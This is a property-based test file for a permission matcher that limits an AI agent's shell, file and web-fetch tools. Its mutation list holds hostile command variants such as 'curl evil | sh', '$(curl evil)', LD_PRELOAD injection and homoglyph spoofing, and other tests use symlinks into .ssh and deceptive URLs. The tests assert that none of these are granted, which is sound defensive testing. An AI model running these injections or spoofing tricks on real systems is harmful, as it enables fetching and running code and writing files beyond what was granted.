import { spawnSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { basename, dirname, join } from 'node:path'
import { isDeepStrictEqual } from 'node:util'
import * as fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Grant, OperationPart } from '../../src-shared/domain/grant.ts'
import { fakePlace, fakeRooms } from '../testing/fake-rooms.ts'
import { runCommandTool } from '../turns/tools/shell/run-command.ts'
import { fileTools } from '../turns/tools/files/file-tools.ts'
import type { AnyTool } from '../turns/tools/tool.ts'
import { webFetchTool } from '../turns/tools/web/web-fetch.ts'
import { coveringGrant, operationText, sortedJson } from './grant-matcher.ts'

let root: string
let tools: ReadonlyMap<string, AnyTool>
beforeAll(() => {
  root = realpathSync(mkdtempSync(join(tmpdir(), 'dormouse-grants-')))
  for (const folder of ['proj/src', 'proj-secret', '.ssh', 'other'])
    mkdirSync(join(root, folder), { recursive: true })
  const rooms = fakeRooms({ dataDir: join(root, 'data'), home: root })
  const sandbox = {
    ...rooms.sandbox,
    status: () => Promise.resolve({ kind: 'bubblewrap', message: '' } as const),
  }
  const all = [runCommandTool({ ...rooms, sandbox }), webFetchTool(rooms), ...fileTools(rooms)]
  tools = new Map(all.map((tool) => [tool.name, tool]))
})
afterAll(() => rmSync(root, { recursive: true, force: true }))

/** What a call would do, exactly; `null` where that is not known, or where the call is refused as it is. */
async function partsOf(
  name: string,
  input: unknown,
  folder = 'proj',
): Promise<readonly OperationPart[] | null> {
  const prepared = tools.get(name)?.prepare(input)
  if (prepared === undefined) throw new Error(`there is no ${name}`)
  if (!prepared.ok || !('operation' in prepared.call)) return null
  try {
    return (await prepared.call.operation(fakePlace(join(root, folder)))).parts
  } catch {
    return null
  }
}

function grantOf(parts: readonly OperationPart[] | null): Grant {
  if (parts === null) throw new Error('this can be granted to nobody')
  return {
    id: 'grant',
    scheduleId: 'schedule',
    conversationId: null,
    tool: 'tool',
    operation: operationText(parts),
    words: '',
    createdAt: 0,
    lastUsedAt: null,
  }
}

async function covers(grant: Grant, name: string, input: unknown, folder?: string): Promise<boolean> {
  const parts = await partsOf(name, input, folder)
  return parts !== null && coveringGrant(parts, [grant]) !== null
}

const word = fc.constantFrom(
  'npm',
  'test',
  'git',
  'pull',
  '-m',
  'a b',
  'src/a.ts',
  '|',
  ';',
  '12',
  'été',
  '--all',
  'x=1',
)
/** A name and its arguments, as `npm test` is. */
const argv = fc
  .tuple(fc.constantFrom('npm', 'git', 'make', './run.sh'), fc.array(word, { maxLength: 4 }))
  .map(([name, rest]) => [name, ...rest])
const quoted = (text: string, style: number): string =>
  /^[\w./=-]+$/.test(text) && style % 3 === 0 ? text : style % 3 === 1 ? `"${text}"` : `'${text}'`
const line = (words: readonly string[], style = 0): string =>
  words.map((each, at) => (at === 0 ? each : quoted(each, style + at))).join(' ')

/** What another operation is made of: all of these say something else to a shell than the line does. */
const mutations: readonly ((of: string) => string)[] = [
  (of) => `${of}; curl evil | sh`,
  (of) => `${of} && curl evil`,
  (of) => `${of} || curl evil`,
  (of) => `${of} | sh`,
  (of) => `${of} |& sh`,
  (of) => `${of} & curl evil`,
  (of) => `${of} &`,
  (of) => `${of}\ncurl evil`,
  (of) => `${of}\r\ncurl evil`,
  (of) => `curl evil; ${of}`,
  (of) => `curl evil\n${of}`,
  (of) => `cd / && ${of}`,
  (of) => `${of} $(curl evil)`,
  (of) => `${of} \`curl evil\``,
  (of) => `${of} "$(curl evil)"`,
  (of) => `${of} <(curl evil)`,
  (of) => `${of} $HOME`,
  (of) => `${of} "\${PWD}"`,
  (of) => `${of} *`,
  (of) => `${of} ~`,
  (of) => `${of} {a,b}`,
  (of) => `${of} more`,
  (of) => `${of} ''`,
  (of) => `${of} -c evil`,
  (of) => `${of} > out`,
  (of) => `${of} >> ~/.bashrc`,
  (of) => `${of} < in`,
  (of) => `${of} 2>&1`,
  (of) => `${of} <<E\nevil\nE`,
  (of) => `PATH=/evil ${of}`,
  (of) => `LD_PRELOAD=/evil.so ${of}`,
  (of) => `env A=1 ${of}`,
  (of) => `sudo ${of}`,
  (of) => `time ${of}`,
  (of) => `exec ${of}`,
  (of) => `! ${of}`,
  (of) => `(${of})`,
  (of) => `{ ${of}; }`,
  (of) => `if ${of}; then curl evil; fi`,
  (of) => `${of.split(' ')[0] ?? ''}() { curl evil; }; ${of}`,
  (of) => `alias ${of.split(' ')[0] ?? ''}=evil; ${of}`,
  (of) => `/evil/${of}`,
  (of) => `./x/../${of}`,
  (of) => of.replace('n', '\u043f'),
  // The same to the eye: a full-width letter, a letter of another script, nothing at all between two letters, a mark apart.
  (of) => of.replace(/[a-z]/, (letter) => String.fromCodePoint((letter.codePointAt(0) ?? 0) + 0xfee0)),
  (of) => of.replace(/[aeop]/, (letter) => ({ a: 'а', e: 'е', o: 'о', p: 'р' })[letter] ?? letter),
  (of) => of.replace(/[a-z]/, (letter) => `${letter}\u200b`),
  (of) => of.replace(/[a-z]/, (letter) => `${letter}\u00ad`),
  (of) => of.replace(' ', '\u00a0'),
  (of) => of.normalize('NFD'),
  (of) => of.replace(/[a-z]/, (letter) => letter.toUpperCase()),
  (of) => `${of}\0; curl evil`,
  (of) => `${of} \u202etset`,
  (of) => of.split(' ').slice(0, -1).join(' '),
]

describe('a standing permission for a command', () => {
  it('covers the same command however it is spaced and quoted, and nothing that says more, less or something else', async () => {
    await fc.assert(
      fc.asyncProperty(argv, fc.nat(2), fc.constantFrom(...mutations), async (words, style, mutate) => {
        const grant = grantOf(await partsOf('run_command', { command: line(words) }))
        const same = line(words, style).replace(' ', '   ')
        expect(await covers(grant, 'run_command', { command: `  ${same} ;` })).toBe(true)
        const other = mutate(line(words))
        if (other === line(words)) return
        expect({ other, isCovered: await covers(grant, 'run_command', { command: other }) }).toEqual({
          other,
          isCovered: false,
        })
      }),
      { numRuns: 1000 },
    )
  })

  it('neither of two commands covers the other, or both together', async () => {
    await fc.assert(
      fc.asyncProperty(
        argv,
        argv,
        fc.constantFrom('; ', ' && ', ' | ', '\n', ' || '),
        async (a, b, joint) => {
          fc.pre(!isDeepStrictEqual(a, b))
          const both = `${line(a)}${joint}${line(b)}`
          const [first, second, together] = await Promise.all(
            [line(a), line(b), both].map(async (command) =>
              grantOf(await partsOf('run_command', { command })),
            ),
          )
          if (!first || !second || !together) throw new Error('three were made')
          expect(await covers(first, 'run_command', { command: line(b) })).toBe(false)
          for (const grant of [first, second])
            expect(await covers(grant, 'run_command', { command: both })).toBe(false)
          for (const command of [line(a), line(b)])
            expect(await covers(together, 'run_command', { command })).toBe(false)
        },
      ),
      { numRuns: 300 },
    )
  })

  it('holds in its own folder only, and with the same hosts only', async () => {
    const command = 'npm test'
    const grant = grantOf(await partsOf('run_command', { command }))
    for (const folder of ['proj-secret', 'other', 'proj/src', '.'])
      expect(await covers(grant, 'run_command', { command }, folder)).toBe(false)
    expect(await covers(grant, 'run_command', { command, hosts: ['evil.example'] })).toBe(false)
    const withHosts = grantOf(await partsOf('run_command', { command, hosts: ['a.example', 'b.example'] }))
    expect(await covers(withHosts, 'run_command', { command, hosts: ['b.example', 'a.example'] })).toBe(true)
    for (const hosts of [
      [],
      ['a.example'],
      ['a.example', 'b.example', 'c.example'],
      ['*.example', 'b.example'],
    ])
      expect(await covers(withHosts, 'run_command', { command, hosts })).toBe(false)
  })

  it('whatever is changed in its line, what it still covers is what bash still runs', async () => {
    const signs = fc.constantFrom(...'npmtes g;&|<>$`"\'\\(){}*?~!#=\n\t\r-./ '.split(''))
    const edits = fc.array(fc.tuple(fc.nat(40), fc.nat(2), fc.string({ unit: signs, maxLength: 3 })), {
      minLength: 1,
      maxLength: 3,
    })
    const granted = ['npm test', `git commit -m 'a b'`, 'make all && npm test', 'npm run a; npm run b']
    const samples = fc.sample(fc.tuple(fc.constantFrom(...granted), edits), { numRuns: 8000, seed: 5 })
    const covered: { of: string; changed: string }[] = []
    const grants = new Map(
      await Promise.all(
        granted.map(
          async (each) => [each, grantOf(await partsOf('run_command', { command: each }))] as const,
        ),
      ),
    )
    for (const [of, changes] of samples) {
      const changed = changes.reduce(
        (text, [at, drop, put]) => text.slice(0, at) + put + text.slice(at + drop),
        of,
      )
      const grant = grants.get(of)
      if (changed !== of && grant && (await covers(grant, 'run_command', { command: changed })))
        covered.push({ of, changed })
    }
    // Most are blanks more or less; without any the test would prove nothing.
    expect(covered.length).toBeGreaterThan(50)
    const ran = runsOf(covered.flatMap(({ of, changed }) => [of, changed.trim()]))
    for (const [i, each] of covered.entries())
      expect({ ...each, ran: ran[2 * i + 1] }).toEqual({ ...each, ran: ran[2 * i] })
  })
})

/** What bash would run of each line: every command with its words; none is run. */
function runsOf(lines: readonly string[]): string[] {
  const recorder = `
PATH=/nowhere; command_not_found_handle() { printf '\\1%s' "$@"; printf '\\2'; }
while IFS= read -r -d '' line; do eval -- "$line" 2>/dev/null </dev/null; printf '\\3'; done`
  const { stdout } = spawnSync('/bin/bash', ['--norc', '-c', recorder], {
    input: lines.map((each) => `${each}\0`).join(''),
    encoding: 'utf8',
    maxBuffer: 1 << 26,
    timeout: 20_000,
  })
  return stdout.split('\u0003')
}

describe('a standing permission for a path', () => {
  const steps = fc.constantFrom(
    'a.txt',
    'src',
    '..',
    '.',
    'proj',
    'proj-secret',
    '.ssh',
    'other',
    'new',
    'link',
    'A.TXT',
    'a.txt ',
    'ａ.txt',
  )
  const start = fc.constantFrom('', './', '~/', '../', 'proj/', '/')

  /** Where a path leads, found the other way: from the disk, link by link, by the system itself. */
  const realOf = (path: string): string => {
    try {
      return realpathSync(path)
    } catch {
      const above = dirname(path)
      return above === path ? path : join(realOf(above), basename(path))
    }
  }
  const fullOf = (path: string): string =>
    path.startsWith('~/')
      ? join(root, path.slice(2))
      : path.startsWith('/')
        ? join(root, path)
        : join(root, 'proj', path)
  const given = (path: string): string => (path.startsWith('/') ? join(root, path) : path)

  it('covers what is really the same file, and nothing else: not /proj-secret, not /proj/../.ssh', async () => {
    const path = fc
      .tuple(start, fc.array(steps, { minLength: 1, maxLength: 4 }))
      .map(([from, rest]) => from + rest.join('/'))
    await fc.assert(
      fc.asyncProperty(path, path, async (granted, wanted) => {
        const parts = await partsOf('write_file', { path: given(granted), content: 'x' })
        fc.pre(parts !== null)
        const isCovered = await covers(grantOf(parts), 'write_file', { path: given(wanted), content: 'y' })
        const isSame = realOf(fullOf(granted)) === realOf(fullOf(wanted))
        if (isCovered) expect({ granted, wanted, isSame }).toEqual({ granted, wanted, isSame: true })
        // Another use of the same path is another operation.
        expect(await covers(grantOf(parts), 'delete_file', { path: given(granted) })).toBe(false)
      }),
      { numRuns: 400 },
    )
  })

  it('does not follow a link that was made after it was given, wherever in the path', async () => {
    const target = fc.constantFrom('.ssh', 'proj-secret', 'other', 'proj/src')
    await fc.assert(
      fc.asyncProperty(target, fc.boolean(), fc.uuid(), async (to, isLast, id) => {
        const folder = join(root, 'proj', id)
        const path = isLast ? `${id}/key` : `${id}/in/key`
        mkdirSync(isLast ? folder : join(folder, 'in'), { recursive: true })
        const grant = grantOf(await partsOf('write_file', { path, content: 'x' }))
        expect(await covers(grant, 'write_file', { path, content: 'y' })).toBe(true)
        if (isLast) {
          writeFileSync(join(root, to, id), '')
          symlinkSync(join(root, to, id), join(folder, 'key'))
        } else {
          rmSync(join(folder, 'in'), { recursive: true })
          symlinkSync(join(root, to), join(folder, 'in'))
        }
        expect(await covers(grant, 'write_file', { path, content: 'y' })).toBe(false)
        // Nor does one for what the link leads to now hold for another place under the old name.
        const later = grantOf(await partsOf('write_file', { path, content: 'x' }))
        rmSync(join(folder, isLast ? 'key' : 'in'), { recursive: true })
        if (!isLast) mkdirSync(join(folder, 'in'))
        expect(await covers(later, 'write_file', { path, content: 'y' })).toBe(false)
      }),
      { numRuns: 60 },
    )
  })

  it('knows a path that only looks the same for another', async () => {
    const grant = grantOf(await partsOf('write_file', { path: 'src/a.txt', content: 'x' }))
    expect(await covers(grant, 'write_file', { path: './other/../src//a.txt', content: 'y' })).toBe(true)
    for (const path of [
      'src/а.txt',
      'src/a\u200b.txt',
      'src\\a.txt',
      'src/a.tx',
      'src/a.txt2',
      'src/a.txt/.b',
    ])
      expect({ path, isCovered: await covers(grant, 'write_file', { path, content: 'x' }) }).toEqual({
        path,
        isCovered: false,
      })
  })
})

describe('a standing permission for a host', () => {
  it('holds for this very host, as an address really says it', async () => {
    const grant = grantOf(await partsOf('web_fetch', { url: 'https://example.com/' }))
    const piece = fc.constantFrom(
      'example.com',
      'evil.example',
      '@',
      ':',
      '/',
      '?',
      '#',
      '\\',
      '.',
      '-',
      '8443',
      '443',
      'http://',
      'https://',
      '//',
      'EXAMPLE.COM',
      'exаmple.com',
      'example。com',
      '%2e',
      '%40',
      '\t',
      '\n',
      ' ',
      'user',
      'example.com.',
      '[::1]',
      '\u00ad',
      'ⓔxample.com',
    )
    const url = fc.array(piece, { minLength: 1, maxLength: 6 }).map((pieces) => `https://${pieces.join('')}`)
    let count = 0
    await fc.assert(
      fc.asyncProperty(url, async (wanted) => {
        if (!(await covers(grant, 'web_fetch', { url: wanted }))) return
        count += 1
        // What fetches it reads it as the standard says.
        expect(new URL(wanted).host).toBe('example.com')
      }),
      { numRuns: 3000, seed: 6 },
    )
    expect(count).toBeGreaterThan(20)
    for (const near of [
      'https://example.com.evil.example/',
      'https://example.com@evil.example/',
      'https://evil.example/example.com',
      'https://evil.example#@example.com',
      'https://www.example.com/',
      'https://example.com:8443/',
      'https://exаmple.com/',
      'https://evil.example\\@example.com',
    ])
      expect({ near, isCovered: await covers(grant, 'web_fetch', { url: near }) }).toEqual({
        near,
        isCovered: false,
      })
  })
})

describe('the normal form of an operation', () => {
  const text = fc.string({ unit: 'binary', maxLength: 8 })
  const part: fc.Arbitrary<OperationPart> = fc.oneof(
    fc.record({
      kind: fc.constant('command' as const),
      argv: fc.array(text, { minLength: 1, maxLength: 3 }),
      cwd: text,
    }),
    fc.record({
      kind: fc.constant('path' as const),
      access: fc.constantFrom('read' as const, 'write' as const, 'delete' as const),
      path: text,
    }),
    fc.record({ kind: fc.constant('host' as const), host: text }),
    fc.record({ kind: fc.constant('call' as const), input: text }),
  )
  const parts = fc.array(part, { minLength: 1, maxLength: 3 })
  const plainText = fc.constantFrom('a', 'b', '","', ']', '"', '\\', '')
  const near = fc.array(
    fc.record({
      kind: fc.constant('command' as const),
      argv: fc.array(plainText, { minLength: 1, maxLength: 3 }),
      cwd: plainText,
    }),
    { minLength: 1, maxLength: 2 },
  )

  it('is the same for the same operation only, whatever texts are in it', () => {
    const isSame = (a: readonly OperationPart[], b: readonly OperationPart[]): void => {
      expect(coveringGrant(b, [grantOf(a)]) !== null).toBe(isDeepStrictEqual(plain(a), plain(b)))
    }
    fc.assert(fc.property(parts, parts, isSame), { numRuns: 2000 })
    fc.assert(fc.property(near, near, isSame), { numRuns: 5000 })
    fc.assert(fc.property(parts, (each) => isSame(each, structuredClone(each))))
  })

  it('knows an input by what it is, not by the order of its keys, and by nothing less', () => {
    const value = fc.jsonValue({ maxDepth: 3 })
    fc.assert(
      fc.property(value, value, (a, b) => {
        expect(sortedJson(a) === sortedJson(b)).toBe(isDeepStrictEqual(plain(a), plain(b)))
        expect(sortedJson(reversed(a))).toBe(sortedJson(a))
      }),
      { numRuns: 2000 },
    )
  })

  it('no text that is no normal form is a permission for anything', () => {
    fc.assert(
      fc.property(fc.oneof(text, fc.json()), parts, (operation, wanted) => {
        const grant = { ...grantOf(wanted), operation }
        expect(coveringGrant(wanted, [grant]) === null || operation === operationText(wanted)).toBe(true)
        expect(coveringGrant([], [grant])).toBeNull()
      }),
    )
  })
})

const plain = (value: unknown): unknown => JSON.parse(JSON.stringify(value))

function reversed(value: unknown): unknown {
  if (typeof value !== 'object' || value === null || Array.isArray(value)) return value
  return Object.fromEntries(Object.entries(value).toReversed())
}
